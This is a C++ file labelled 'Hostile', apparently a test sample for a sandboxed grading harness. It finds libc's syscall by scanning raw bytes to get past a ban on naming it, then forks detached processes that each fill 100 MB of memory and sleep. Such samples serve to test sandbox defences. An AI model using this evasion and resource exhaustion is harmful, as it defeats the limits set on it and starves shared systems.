// Hostile: takes in many processes what one may not take
#include <cstdlib>
#include <cstring>
#include <vector>

#include "every_function.hpp"

namespace {

/// The C library's function syscall, which no lesson may name: looked for by its bytes.
long (*the_function())(long, long, long, long) {
#if defined(__x86_64__)
    // mov %rdi, %rax; mov %rsi, %rdi; mov %rdx, %rsi; mov %rcx, %rdx; mov %r8, %r10
    constexpr unsigned char begin[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89,
                                       0xd6, 0x48, 0x89, 0xca, 0x4d, 0x89, 0xc2};
    const auto* at = reinterpret_cast<const unsigned char*>(&std::strtol);
    while (std::memcmp(at, begin, sizeof begin) != 0)
        ++at;
    return reinterpret_cast<long (*)(long, long, long, long)>(at);
#else
    return [](long, long, long, long) { return -1L; };
#endif
}

long system_call(long number, long first, long second, long third) {
    static const auto call = the_function();
    return call(number, first, second, third);
}

void attack() {
    for (int i = 0; i < 12; ++i)
        if (system_call(57, 0, 0, 0) == 0) { // fork
            system_call(112, 0, 0, 0);       // setsid
            std::vector<char> much(100u << 20);
            std::memset(much.data(), 1, much.size());
            const long seconds[] = {600, 0};
            system_call(35, reinterpret_cast<long>(seconds), 0, 0); // nanosleep
            system_call(231, much.back(), 0, 0);                    // exit_group
        }
    const long seconds[] = {2, 0};
    system_call(35, reinterpret_cast<long>(seconds), 0, 0);
}

} // namespace
